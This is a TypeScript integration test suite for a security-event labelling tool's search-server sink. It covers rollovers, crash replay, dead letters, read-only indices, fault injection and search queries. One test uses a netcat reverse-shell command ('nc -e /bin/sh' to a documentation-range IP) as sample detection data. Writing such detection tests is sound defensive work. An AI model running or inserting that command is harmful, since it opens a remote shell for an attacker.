import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createRandom } from "../../samples/random.ts";
import { applyInstall } from "../../src/deploy/apply-install.ts";
import { listAssets } from "../../src/deploy/list-assets.ts";
import { planInstall } from "../../src/deploy/plan-install.ts";
import { type Signals, TagsmithError } from "../../src/sdk/index.ts";
import { alert, checkSink, labelledEvent, verdict } from "../contract/check-sink.ts";
import type { ServerVersion } from "../servers/server-version.ts";
import { type RunningServer, startServer } from "../servers/start-server.ts";
import { type Fault, startFaultProxy } from "./fault-proxy.ts";
import { factsSuite } from "./sink-facts-suite.ts";
import {
  documentOf,
  hitsOf,
  install,
  nothing,
  openSinkScene,
  type SinkScene,
  signal,
  streams,
  tags,
} from "./sink-scene.ts";

const bulkFaults: readonly Fault[] = [
  "rate_limited",
  "unavailable",
  "html_page",
  "reset",
  "answer_lost",
  "answer_half",
  "answer_slow",
  "partly_refused",
];

/** Holds the sink to its contract, and to what a search server asks of it, on one real server. */
export function describeSearchSink(version: ServerVersion): void {
  describe(`the sink on ${version.product} ${version.version}`, () => {
    let running: RunningServer;
    let scene: SinkScene;
    let spaces = 0;
    beforeAll(async () => {
      running = await startServer(version);
      scene = await openSinkScene(running);
    }, 300_000);
    afterAll(async () => {
      await scene?.server.close();
      await running?.stop();
    });
    const freshNamespace = (): string => {
      spaces += 1;
      return `t${spaces}`;
    };

    checkSink({
      isKeyed: true,
      create: async () => {
        const namespace = freshNamespace();
        return {
          open: () => scene.sink({ namespace }),
          read: () => scene.content(namespace),
          dispose: async () => undefined,
        };
      },
    });

    it("keeps labels and alerts once when a rollover lies between its writing and its repetition after a crash", async () => {
      const namespace = freshNamespace();
      const output = { ...nothing, alerts: [alert("x")], labels: ["a", "b", "c"].map((id) => labelledEvent(id, id)) };
      const first = scene.sink({ namespace });
      await first.open(undefined);
      const stored = await first.write(nothing, signal);
      await first.write(output, signal);
      await first.close();
      for (const one of ["labels", "alerts"]) await scene.call("POST", `/tagsmith-${one}-${namespace}/_rollover`);
      const second = scene.sink({ namespace });
      await second.open(stored);
      await second.write({ ...output, labels: [...output.labels, labelledEvent("d", "new")] }, signal);
      await second.close();
      const { labels, alerts } = await scene.content(namespace);
      expect([...labels, ...alerts].map(({ id }) => id).toSorted()).toEqual(["a", "b", "c", "d", "x"]);
    });

    it("keeps labels and alerts once when a rollover comes between the look for them and their repetition", async () => {
      const namespace = freshNamespace();
      const output = { ...nothing, alerts: [alert("x")], labels: ["a", "b", "c"].map((id) => labelledEvent(id, id)) };
      const first = scene.sink({ namespace });
      await first.open(undefined);
      const stored = await first.write(nothing, signal);
      await first.write(output, signal);
      await first.close();
      const proxy = await startFaultProxy(running.url);
      let rollovers = 0;
      proxy.before(async (_, path) => {
        if (!path.includes("/_bulk")) return;
        rollovers += 1;
        for (const one of ["labels", "alerts"]) await scene.call("POST", `/tagsmith-${one}-${namespace}/_rollover`);
      });
      const second = scene.sink({ namespace, urls: [proxy.url] });
      await second.open(stored);
      await second.write({ ...output, labels: [...output.labels, labelledEvent("d", "new")] }, signal);
      await second.close();
      await proxy.close();
      const { labels, alerts } = await scene.content(namespace);
      expect([...labels, ...alerts].map(({ id }) => id).toSorted()).toEqual(["a", "b", "c", "d", "x"]);
      expect(rollovers).toBe(1);
    });

    it("never puts an older verdict over a newer one", async () => {
      const namespace = freshNamespace();
      const [older, newer] = [scene.sink({ namespace }), scene.sink({ namespace })];
      await older.open(JSON.stringify({ version: 1_000 }));
      await newer.open(JSON.stringify({ version: 9_000_000_000_000_000 - 10 }));
      await newer.write({ ...nothing, verdicts: [verdict("s", 0.9)] }, signal);
      await older.write({ ...nothing, verdicts: [verdict("s", 0.1)] }, signal);
      expect((await scene.content(namespace)).verdicts).toEqual([{ id: "s", score: 0.9 }]);
      await Promise.all([older.close(), newer.close()]);
    });

    it("puts a document that the server refuses into dead letters, with the reason, and the others in their place", async () => {
      const namespace = freshNamespace();
      const template = { index_patterns: [`tagsmith-labels-${namespace}`], priority: 600, data_stream: {} };
      const mappings = { properties: { tagsmith: { properties: { text: { type: "integer" } } } } };
      await scene.call("PUT", `/_index_template/strict-${namespace}`, { ...template, template: { mappings } });
      const sink = scene.sink({ namespace });
      await sink.open(undefined);
      const labels = [labelledEvent("good", "7"), labelledEvent("bad", "not a number")];
      await sink.write({ ...nothing, labels }, signal);
      const content = await scene.content(namespace);
      expect(content.labels.map(({ id }) => id)).toEqual(["good"]);
      const [letter] = await scene.sources(`tagsmith-deadletters-${namespace}`);
      expect(letter).toMatchObject({
        event: { kind: "pipeline_error" },
        error: { code: "sink_document_refused" },
        tagsmith: { dead_letter: { document: "bad", container: `tagsmith-labels-${namespace}` } },
      });
      await sink.close();
    });

    it("says so, and writes nothing, where the templates are not installed", async () => {
      await scene.call("DELETE", "/_index_template/tagsmith-verdicts");
      const sink = scene.sink({ namespace: freshNamespace() });
      await sink.open(undefined);
      await expect(sink.write(nothing, signal)).rejects.toMatchObject({ code: "sink_not_installed" });
      await sink.close();
      await install(scene);
    });

    it("writes tags into the events themselves where asked to, once, and never over someone else's change", async () => {
      const namespace = freshNamespace();
      const index = `events-${namespace}`;
      await scene.call("PUT", `/${index}/_doc/1?refresh=true`, { message: "one", mine: 1 });
      const sink = scene.sink({ namespace, enrich_source: true });
      expect(sink.warnings?.length).toBeGreaterThan(2);
      await sink.open(undefined);
      const shell = labelledEvent("e1", "id");
      const origin = { source: version.product, container: index, document: "1", sequence: 0 };
      const gone = { ...shell, event: { ...shell.event, id: "e2", origin: { ...origin, document: "2" } } };
      const output = { ...nothing, labels: [{ ...shell, event: { ...shell.event, origin } }, gone] };
      await sink.write(output, signal);
      const first = documentOf(await scene.call("GET", `/${index}/_doc/1`));
      expect(first._source).toMatchObject({ message: "one", mine: 1, tagsmith: { tags: ["tag_a"], model: "m@1" } });
      await scene.call("POST", `/${index}/_update/1`, { doc: { mine: 2 } });
      await sink.write(output, signal);
      const second = documentOf(await scene.call("GET", `/${index}/_doc/1`));
      expect(second._source).toMatchObject({ mine: 2, tagsmith: { tags: ["tag_a"] } });
      expect(second._version).toBe(first._version + 1);
      await sink.close();
    });

    it("says once that the events of a read-only index stay as they are, and labels them all the same", async () => {
      const namespace = freshNamespace();
      const index = `frozen-${namespace}`;
      await scene.call("PUT", `/${index}/_doc/1?refresh=true`, { message: "one" });
      await scene.call("PUT", `/${index}/_settings`, { "index.blocks.write": true });
      const sink = scene.sink({ namespace, enrich_source: true });
      await sink.open(undefined);
      const origin = { source: version.product, container: index, document: "1", sequence: 0 };
      for (const id of ["e1", "e2"]) {
        const label = labelledEvent(id, "id");
        await sink.write({ ...nothing, labels: [{ ...label, event: { ...label.event, origin } }] }, signal);
      }
      await sink.close();
      expect((await scene.content(namespace)).labels).toHaveLength(2);
      const letters = await scene.sources(`tagsmith-deadletters-${namespace}`);
      expect(letters).toHaveLength(1);
      expect(letters[0]).toMatchObject({
        error: { code: "sink_source_read_only" },
        tagsmith: { dead_letter: { container: index } },
      });
    });

    it("waits while its own index is read-only for want of disk, and goes on when that is over", async () => {
      const namespace = freshNamespace();
      const sink = scene.sink({ namespace });
      await sink.open(undefined);
      await sink.write({ ...nothing, labels: [labelledEvent("a", "id")] }, signal);
      const block = (isOn: boolean) =>
        scene.call("PUT", `/tagsmith-labels-${namespace}/_settings`, {
          "index.blocks.read_only_allow_delete": isOn ? true : null,
        });
      await block(true);
      const more = { ...nothing, labels: [labelledEvent("b", "id")] };
      await expect(sink.write(more, signal)).rejects.toMatchObject({ code: "siem_index_blocked", remedy: "retry" });
      await block(false);
      await sink.write(more, signal);
      await sink.close();
      expect((await scene.content(namespace)).labels.map(({ id }) => id)).toEqual(["a", "b"]);
    });

    it("adds the tags of a newer vocabulary to the templates and to existing data", async () => {
      const namespace = freshNamespace();
      const newer = listAssets(streams, [...tags, "tag_of_tomorrow"], scene.facts, { retentionDays: {} });
      const sink = scene.sink({ namespace });
      await sink.open(undefined);
      await sink.write({ ...nothing, labels: [labelledEvent("old", "id")] }, signal);
      const changes = await planInstall(scene.server, newer, streams.version, signal);
      const updates = changes.filter(({ kind }) => kind === "update").map(({ asset: { name } }) => name);
      expect(updates).toEqual(["tagsmith-labels-mappings", "tagsmith-alerts-mappings"]);
      const followed = await applyInstall(scene.server, changes, signal);
      expect(followed).toContainEqual({ name: `tagsmith-labels-${namespace}`, how: "mapping_extended" });
      const label = labelledEvent("new", "id");
      const topLabels = [{ label_id: "tag_of_tomorrow", score: 0.9, axis: "execution" }];
      await sink.write({ ...nothing, labels: [{ ...label, topLabels }] }, signal);
      await sink.close();
      await scene.call("POST", `/tagsmith-labels-${namespace}/_refresh`);
      const query = encodeURIComponent("tagsmith.score.tag_of_tomorrow:>0.5");
      const found = hitsOf(await scene.call("GET", `/tagsmith-labels-${namespace}/_search?q=${query}`));
      expect(found.map(({ _id }) => _id)).toEqual(["new"]);
      await install(scene);
    });

    it("goes on in a new backing index where existing data contradicts the mapping", async () => {
      const namespace = freshNamespace();
      const sink = scene.sink({ namespace });
      await sink.open(undefined);
      await sink.write({ ...nothing, labels: [labelledEvent("old", "id")] }, signal);
      await sink.close();
      const changed = JSON.parse(
        JSON.stringify(scene.assets)
          .replaceAll('"tagsmith.time_missing"', '""')
          .replaceAll('"time_missing":{"type":"boolean"}', '"time_missing":{"type":"keyword"}'),
      );
      const followed = await applyInstall(
        scene.server,
        await planInstall(scene.server, changed, streams.version, signal),
        signal,
      );
      expect(followed).toContainEqual({ name: `tagsmith-labels-${namespace}`, how: "rolled_over" });
      await install(scene);
    });

    it("leaves alone a template of its name that is someone else's", async () => {
      const own = scene.assets.find(({ kind, name }) => kind === "index_template" && name === "tagsmith-alerts");
      const foreign = { index_patterns: ["tagsmith-alerts-*"], priority: 700, data_stream: {} };
      await scene.call("PUT", "/_index_template/tagsmith-alerts", foreign);
      const changes = await planInstall(scene.server, scene.assets, streams.version, signal);
      await expect(applyInstall(scene.server, changes, signal)).rejects.toMatchObject({ code: "install_not_owned" });
      await scene.call("PUT", "/_index_template/tagsmith-alerts", own?.body);
    });

    it("keeps every label and alert once through refusals, resets, lost and half answers, slow bytes and rollovers", async () => {
      const namespace = freshNamespace();
      const proxy = await startFaultProxy(running.url);
      const random = createRandom(11);
      proxy.decide((_, path) => (path.includes("/_bulk") && random.below(2) === 0 ? random.pick(bulkFaults) : "none"));
      const counted = new Map<string, number>();
      const signals: Signals = { count: (_name, kind, by = 1) => counted.set(kind, (counted.get(kind) ?? 0) + by) };
      const settings = { namespace, urls: [proxy.url], batch_documents: 20, request_timeout_secs: 2 };
      const rollOver = async (): Promise<void> => {
        for (const one of ["labels", "alerts"]) await scene.call("POST", `/tagsmith-${one}-${namespace}/_rollover`);
      };
      let sink = scene.sink(settings, { signals });
      let stored: string | undefined;
      await sink.open(stored);
      const ids = Array.from({ length: 600 }, (_, n) => `e${n}`);
      for (let from = 0; from < ids.length; from += 60) {
        const labels = ids.slice(from, from + 60).map((id) => labelledEvent(id, `text of ${id}`));
        const output = { ...nothing, labels, alerts: ids.slice(from, from + 6).map(alert) };
        if (from === 300) {
          // Killed after the write, before the position was stored.
          await untilDone(() => sink.write(output, signal));
          await sink.close();
          await rollOver();
          sink = scene.sink(settings, { signals });
          await sink.open(stored);
        }
        stored = await untilDone(() => sink.write(output, signal));
        if (from % 120 === 0) await rollOver();
      }
      await sink.close();
      await proxy.close();
      const { labels, alerts } = await scene.content(namespace);
      expect(labels.map(({ id }) => id).toSorted()).toEqual(ids.toSorted());
      expect(alerts.map(({ id }) => id).toSorted()).toEqual(ids.filter((_, n) => n % 60 < 6).toSorted());
      for (const code of ["siem_rate_limited", "siem_unavailable", "siem_unreachable"])
        expect(counted.get(code)).toBeGreaterThan(0);
      for (const fault of bulkFaults) expect(proxy.counts.get(fault), fault).toBeGreaterThan(0);
    });

    it("finds labels by the score of a tag, whole words and parts of the text", async () => {
      const namespace = freshNamespace();
      const sink = scene.sink({ namespace });
      await sink.open(undefined);
      const shell = labelledEvent("shell", "nc -e /bin/sh 203.0.113.10 4444");
      const scored = (id: string, score: number) => ({
        ...shell,
        event: { ...shell.event, id },
        topLabels: [{ label_id: "spawn_reverse_shell", score, axis: "execution_and_process" }],
        tags: score >= 0.6 ? ["spawn_reverse_shell"] : [],
      });
      await sink.write({ ...nothing, labels: [scored("sure", 0.93), scored("unsure", 0.4)] }, signal);
      await sink.close();
      const ids = async (query: string): Promise<unknown[]> => {
        await scene.call("POST", `/tagsmith-labels-${namespace}/_refresh`);
        const path = `/tagsmith-labels-${namespace}/_search?q=${encodeURIComponent(query)}`;
        return hitsOf(await scene.call("GET", path)).map(({ _id }) => _id);
      };
      expect(await ids("tagsmith.score.spawn_reverse_shell:>=0.6 AND host.name:web-1")).toEqual(["sure"]);
      expect(await ids("threat.technique.subtechnique.id:T1059.004")).toEqual(["sure"]);
      expect(await ids("tags:spawn_reverse_shell AND event.ingested:[now-1h TO now+1h]")).toEqual(["sure"]);
      expect(await ids("tagsmith.text.words:203.0.113.10")).toHaveLength(2);
      const query = { wildcard: { "tagsmith.text": { value: "*E /BIN/sh*", case_insensitive: true } } };
      const found = await scene.call("POST", `/tagsmith-labels-${namespace}/_search`, { query });
      expect(hitsOf(found)).toHaveLength(2);
    });

    factsSuite(() => scene, freshNamespace);
  });
}

/** As the pipeline does it: again while an error says so. */
async function untilDone<T>(work: () => Promise<T>): Promise<T> {
  for (let tries = 0; ; tries += 1) {
    try {
      return await work();
    } catch (error) {
      if (!(error instanceof TagsmithError) || error.remedy !== "retry" || tries > 50) throw error;
    }
  }
}
